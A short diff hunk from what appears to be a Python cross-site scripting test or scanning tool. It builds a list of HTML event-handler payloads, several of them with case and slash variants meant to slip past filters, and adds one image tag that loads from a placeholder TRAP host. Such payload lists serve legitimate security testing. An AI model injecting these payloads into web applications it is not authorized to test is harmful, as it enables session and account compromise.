@@ -56,6 +56,7 @@ _EVENTS = {
 }
 
 HANDLERS = [f"<{tag} {event}={HIT}>x" for tag, events in _EVENTS.items() for event in events.split()] + [
+    f"<img src=https://{TRAP}/x onerror={HIT}>",
     f"<img src=x OnErRoR={HIT}>",
     f"<IMG SRC=x ONERROR={HIT}>",
     f"<img/src=x/onerror={HIT}>",
